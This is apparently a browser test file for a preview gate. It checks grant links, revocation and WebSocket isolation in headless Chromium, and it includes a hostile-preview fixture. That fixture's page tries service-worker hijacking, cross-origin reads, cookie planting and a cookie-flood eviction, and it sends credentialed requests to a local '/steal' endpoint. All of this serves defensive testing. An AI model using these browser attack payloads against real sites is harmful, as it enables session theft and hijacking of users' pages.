// The preview gate in a real browser: headless Chromium (Debian's /usr/bin/chromium, driven by playwright-core)
// follows a grant link (a page whose button exchanges it), sees the preview on its own origin, and after `agentvm gate
// revoke` the next load is refused; a preview's WebSocket works through the gate and is cut at revocation; another
// site cannot open one with the user's session. A malicious preview A (its page and its upstream) attacks preview B
// held in the same browser: service workers, cross-origin reads, cookie setting and eviction, any port of the host.
// Missing Chromium: skipped with an install hint, except under CI=true where it fails. Needs `npm run build`.

import { existsSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agentvm, assertBuilt } from './support/cli.js';
import {
  applyRoute,
  grant,
  startGate,
  startUpstream,
  tempRoot,
  type GateProcess,
  type Upstream,
} from './support/gate.js';
import { startWsUpstream, type WsUpstream } from './support/websocket.js';

const CHROMIUM = '/usr/bin/chromium';
const available = existsSync(CHROMIUM);
if (!available && process.env.CI === 'true')
  throw new Error(
    `${CHROMIUM} is missing: install it with \`apt-get install chromium\` (CI=true requires the browser test).`,
  );
if (!available)
  console.warn(`[gate-browser] skipped: ${CHROMIUM} is missing. Install it with \`apt-get install chromium\`.`);

/** Opens a grant link as a person does: the link page, then its button; resolves once the preview has loaded. */
async function follow(page: import('playwright-core').Page, link: string): Promise<number | undefined> {
  const opened = await page.goto(link);
  await Promise.all([page.waitForURL(`${new URL(link).origin}/`), page.click('#open')]);
  return opened?.status();
}

/** A fresh headless Chromium for `use`, closed afterwards whatever happens. */
async function withBrowser(use: (browser: import('playwright-core').Browser) => Promise<void>): Promise<void> {
  const { chromium } = await import('playwright-core');
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  try {
    await use(browser);
  } finally {
    await browser.close();
  }
}

describe.skipIf(!available)('agentvm gate in headless Chromium', () => {
  let fx: ReturnType<typeof tempRoot>;
  let up: Upstream;
  let live: WsUpstream;
  let gate: GateProcess;

  beforeAll(async () => {
    assertBuilt();
    fx = tempRoot();
    up = await startUpstream('browser');
    live = await startWsUpstream();
    await applyRoute(fx.root, { workload: 'web', preview: 'site', port: up.port });
    await applyRoute(fx.root, { workload: 'web', preview: 'live', port: live.port });
    gate = await startGate(fx.root);
  }, 30_000);

  afterAll(async () => {
    await gate?.stop();
    await up?.close();
    await live?.close();
    fx?.remove();
  });

  it("the preview's WebSocket works through the gate and is cut when the grant is revoked", async () => {
    await withBrowser(async (browser) => {
      const page = await browser.newPage();
      const { result } = await grant(fx.root, 'web/live', { reason: 'live preview' });
      await follow(page, result.link);
      await page.waitForFunction("document.getElementById('log').textContent.includes('echo:hi')", undefined, {
        timeout: 5_000,
      });
      expect(live.handshakes.at(-1)?.cookie).toBeUndefined(); // the gate's session cookie stays with the gate
      expect((await agentvm(['gate', 'revoke', result.grant.id, '--root', fx.root])).code).toBe(0);
      await page.evaluate("window.ws.send('after revoke')");
      await page.waitForFunction("document.getElementById('state').textContent === 'closed'", undefined, {
        timeout: 3_000,
      });
      expect(live.received).toContain('hi');
      expect(live.received).not.toContain('after revoke');
    });
  }, 60_000);

  it('a page on another site cannot open a WebSocket to a preview with the user’s session', async () => {
    const { result } = await grant(fx.root, 'web/live', { reason: 'cross-site socket' });
    const before = live.handshakes.length;
    const site = http.createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><p id="state">connecting</p><script>
        const ws = new WebSocket('${new URL(result.link).origin.replace(/^http/, 'ws')}/socket');
        ws.onopen = () => { document.getElementById('state').textContent = 'open'; };
        ws.onerror = ws.onclose = () => { if (document.getElementById('state').textContent !== 'open') document.getElementById('state').textContent = 'refused'; };
      </script>`);
    });
    await new Promise<void>((r) => site.listen(0, '127.0.0.1', r));
    try {
      await withBrowser(async (browser) => {
        const page = await browser.newPage();
        await follow(page, result.link); // the user holds a live session for web/live in this browser
        await page.waitForFunction("document.getElementById('state').textContent === 'open'", undefined, {
          timeout: 5_000,
        });
        const handshakesWithSession = live.handshakes.length;
        await page.goto(`http://localhost:${(site.address() as AddressInfo).port}/`);
        await page.waitForFunction("document.getElementById('state').textContent !== 'connecting'", undefined, {
          timeout: 5_000,
        });
        expect(await page.textContent('#state')).toBe('refused');
        expect(live.handshakes.length).toBe(handshakesWithSession); // the other site's handshake never reached the preview
        expect(handshakesWithSession).toBe(before + 1);
      });
    } finally {
      await new Promise<void>((r) => {
        site.close(() => r());
        site.closeAllConnections();
      });
    }
  }, 60_000);

  it('follows a grant link, sees the preview, and is refused on the next load after revoke', async () => {
    await withBrowser(async (browser) => {
      const page = await browser.newPage();
      const { result } = await grant(fx.root, 'web/site', { reason: 'browser review' });
      const origin = new URL(result.link).origin;
      expect(await follow(page, result.link)).toBe(200); // the link page; its button exchanges the link
      expect(page.url()).toBe(`${origin}/`); // the token is gone from the address bar
      expect(await page.textContent('#who')).toBe('preview browser');
      const cookies = await page.context().cookies();
      // Host-only (no Domain): the cookie belongs to this preview's host and no other.
      expect(cookies.find((c) => c.name === 'agentvm_gate_session')).toMatchObject({
        domain: new URL(origin).hostname,
        path: '/',
        httpOnly: true,
        sameSite: 'Strict',
      });
      expect(await page.evaluate<string>('document.cookie')).not.toContain('agentvm_gate'); // HttpOnly: scripts cannot read it

      expect((await page.reload())?.status()).toBe(200);
      // The browser's own /favicon.ico request (now inside the preview's origin) may land at any moment: not counted.
      const pageHits = (): number => up.hits.filter((h) => h.url !== '/favicon.ico').length;
      const hitsBefore = pageHits();
      const revoke = await agentvm(['gate', 'revoke', result.grant.id, '--root', fx.root]);
      expect(revoke.code).toBe(0);
      const after = await page.reload();
      expect(after?.status()).toBe(403);
      expect(await page.textContent('body')).toMatch(/revoked/);
      expect(pageHits()).toBe(hitsBefore);
      // The one-time link does not work a second time either: its page opens, its button is refused.
      expect((await page.goto(result.link))?.status()).toBe(200);
      const [again] = await Promise.all([page.waitForNavigation(), page.click('#open')]);
      expect(again?.status()).toBe(403);
    });
  }, 60_000);

  it('a grant link clicked on another site (localhost → 127.0.0.1) opens the preview', async () => {
    const { result } = await grant(fx.root, 'web/site', { reason: 'cross-site click' });
    // A page on http://localhost:<port>: another site than the gate's 127.0.0.1, as a chat or mail client would be.
    const site = http.createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><a id="go" href="${result.link}">open the preview</a>`);
    });
    await new Promise<void>((r) => site.listen(0, '127.0.0.1', r));
    try {
      await withBrowser(async (browser) => {
        const page = await browser.newPage();
        await page.goto(`http://localhost:${(site.address() as AddressInfo).port}/`);
        await page.click('#go');
        await page.waitForURL(result.link);
        await Promise.all([page.waitForURL(`${new URL(result.link).origin}/`), page.click('#open')]);
        expect(await page.textContent('#who', { timeout: 5_000 })).toBe('preview browser');
      });
    } finally {
      await new Promise<void>((r) => {
        site.close(() => r());
        site.closeAllConnections();
      });
    }
  }, 60_000);
});

/**
 * Preview A, written by a hostile agent: its page attacks preview B (held in the same browser) and reports what it got;
 * its upstream records every Cookie header it is sent, on any host name and any path.
 */
async function startHostilePreview(): Promise<{
  port: number;
  cookiesSeen: string[];
  urls: string[];
  close(): Promise<void>;
}> {
  const cookiesSeen: string[] = [];
  const urls: string[] = [];
  let port = 0;
  const attack = (
    bOrigin: string,
    bGuess: string,
  ): string => `<!doctype html><title>A</title><pre id="results">running</pre><script>
(async () => {
  const r = {};
  const guard = async (name, f) => { try { r[name] = await f(); } catch (e) { r[name] = 'blocked: ' + e.name; } };
  await guard('worker', async () => { const reg = await navigator.serviceWorker.register('/sw.js', { scope: '/' }); await navigator.serviceWorker.ready; return reg.scope; });
  await guard('readB', async () => (await (await fetch(${JSON.stringify(bOrigin)} + '/', { credentials: 'include' })).text()));
  await guard('frameB', () => new Promise((resolve, reject) => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(bOrigin)} + '/'; f.onload = () => { try { resolve(f.contentDocument.body.innerText); } catch (e) { reject(e); } }; document.body.appendChild(f); }));
  // Cookies for B's host or the parent domain, and a flood to evict B's session from the jar.
  document.cookie = 'agentvm_gate_session=evil; domain=localhost; path=/';
  document.cookie = 'agentvm_gate_session=evil; domain=' + ${JSON.stringify(new URL(bOrigin).hostname)} + '; path=/';
  for (let i = 0; i < 400; i++) document.cookie = 'flood' + i + '=' + 'x'.repeat(100) + '; path=/';
  // Any port of the gate host, with credentials: the agent's own upstream port under every name it can think of (and
  // even B's true name, which a cross-site request does not get B's SameSite=Strict cookie for).
  for (const u of ['http://127.0.0.1:${'$'}{PORT}/steal', 'http://localhost:${'$'}{PORT}/steal', ${JSON.stringify(bGuess)}.replace(/:[0-9]+$/, ':${'$'}{PORT}') + '/steal', ${JSON.stringify(bOrigin.replace(/:\d+$/, ''))} + ':${'$'}{PORT}/steal']) {
    await guard(u, async () => (await fetch(u, { credentials: 'include', mode: 'no-cors' })).type);
  }
  document.getElementById('results').textContent = JSON.stringify(r);
})();
</script>`;
  const server = http.createServer((req, res) => {
    urls.push(`${req.headers.host}${req.url}`);
    if (req.headers.cookie) cookiesSeen.push(req.headers.cookie);
    req.resume();
    if (req.url === '/sw.js') {
      // A worker that answers everything itself (a decoy), asking for the widest scope.
      res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      return res.end(
        `self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim())); self.addEventListener('fetch', (e) => { if (new URL(e.request.url).origin === location.origin && !e.request.url.includes('/attack')) e.respondWith(new Response('<h1 id="who">hijacked by A</h1>', { headers: { 'content-type': 'text/html' } })); });`,
      );
    }
    if (req.url?.startsWith('/attack?')) {
      const q = new URL(`http://x${req.url}`).searchParams;
      res.writeHead(200, {
        'content-type': 'text/html; charset=utf-8',
        'set-cookie': ['agentvm_gate_session=planted; Path=/', `victim=1; Domain=localhost; Path=/`],
      });
      return res.end(attack(q.get('b')!, q.get('guess')!).replaceAll('${PORT}', String(port)));
    }
    if (req.url === '/steal-page') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      return res.end(
        `<p id="who">steal</p><script>fetch('/steal', { credentials: 'include' }).then(() => { document.getElementById('who').textContent = 'stolen?'; });</script>`,
      );
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end('<h1 id="who">preview A</h1>');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
  return {
    port,
    cookiesSeen,
    urls,
    close: () =>
      new Promise<void>((r) => {
        server.close(() => r());
        server.closeAllConnections();
      }),
  };
}

describe.skipIf(!available)('a malicious preview in headless Chromium (one origin per preview)', () => {
  let fx: ReturnType<typeof tempRoot>;
  let a: Awaited<ReturnType<typeof startHostilePreview>>;
  let b: Upstream;
  let gate: GateProcess;

  beforeAll(async () => {
    assertBuilt();
    fx = tempRoot();
    a = await startHostilePreview();
    b = await startUpstream('b');
    await applyRoute(fx.root, { workload: 'web', preview: 'a', port: a.port });
    await applyRoute(fx.root, { workload: 'web', preview: 'b', port: b.port });
    gate = await startGate(fx.root);
  }, 30_000);

  afterAll(async () => {
    await gate?.stop();
    await a?.close();
    await b?.close();
    fx?.remove();
  });

  it("A cannot control B or its link page with a worker, read B, set or evict B's cookies, or get B's session on any port; after A's revoke a new link for B works", async () => {
    await withBrowser(async (browser) => {
      const page = await browser.newPage();
      const bLink = (await grant(fx.root, 'web/b', { reason: 'b' })).result.link;
      const bOrigin = new URL(bLink).origin;
      const bHost = new URL(bLink).hostname;
      // The person holds a session for B, then opens A.
      await follow(page, bLink);
      expect(await page.textContent('#who')).toBe('preview b');
      const bSession = (await page.context().cookies()).find(
        (c) => c.domain === bHost && c.name === 'agentvm_gate_session',
      )!;
      expect(bSession).toBeDefined();
      const aGrant = (await grant(fx.root, 'web/a', { reason: 'a' })).result;
      await follow(page, aGrant.link);
      const aOrigin = new URL(aGrant.link).origin;
      // A's page runs its attacks (A knows B's workload and preview names, not B's secret host tag).
      const guess = `http://b--web.localhost:${gate.port}`;
      await page.goto(`${aOrigin}/attack?b=${encodeURIComponent(bOrigin)}&guess=${encodeURIComponent(guess)}`);
      await page.waitForFunction("document.getElementById('results').textContent !== 'running'", undefined, {
        timeout: 20_000,
      });
      const results = JSON.parse((await page.textContent('#results'))!) as Record<string, string>;
      console.log(`[gate-browser] malicious preview: ${JSON.stringify(results)}`);
      expect(results.worker).toBe(`${aOrigin}/`); // a worker, but on A's own origin only (Service-Worker-Allowed dropped)
      expect(results.readB).toMatch(/^blocked/); // another origin: CORS
      expect(results.frameB).toMatch(/^blocked/); // another origin: no DOM access
      // Two steps through the agent's own port: a top-level navigation to a B-like name there, then a same-origin fetch.
      await page.goto(`http://b--web.localhost:${a.port}/steal-page`);
      await page.waitForFunction("document.getElementById('who').textContent === 'stolen?'", undefined, {
        timeout: 10_000,
      });
      expect(a.urls).toContain(`b--web.localhost:${a.port}/steal`); // the step ran; B's true name, with its tag, is what it lacks
      // Not one request to A's upstream, on any host name or path, carried B's session.
      expect(a.cookiesSeen.join('\n')).not.toContain(bSession.value);
      // B's session is still in the jar, unchanged, and still the only gate cookie for B's host.
      const jar = await page.context().cookies(bOrigin);
      expect(jar.filter((c) => c.name === 'agentvm_gate_session')).toEqual([
        expect.objectContaining({ value: bSession.value, domain: bHost }),
      ]);
      expect(jar.some((c) => c.name.startsWith('flood') || c.name === 'victim')).toBe(false);

      // A is revoked; the person opens a new link for B in the same browser: the gate's own page, no worker, B's preview.
      expect((await agentvm(['gate', 'revoke', aGrant.grant.id, '--root', fx.root])).code).toBe(0);
      const bLink2 = (await grant(fx.root, 'web/b', { reason: 'b again' })).result.link;
      const opened = await page.goto(bLink2);
      expect(opened?.status()).toBe(200);
      expect(await page.evaluate('navigator.serviceWorker.controller === null')).toBe(true);
      expect(await page.textContent('#open')).toBe('Open the preview');
      await Promise.all([page.waitForURL(`${bOrigin}/`), page.click('#open')]);
      expect(await page.textContent('#who')).toBe('preview b');
      expect(await page.evaluate('navigator.serviceWorker.controller === null')).toBe(true);
      // B's token never reached A in any form.
      const token = new URL(bLink2).searchParams.get('grant')!;
      expect(a.urls.join('\n')).not.toContain(token);
      expect(a.cookiesSeen.join('\n')).not.toContain(token);
    });
  }, 120_000);
});
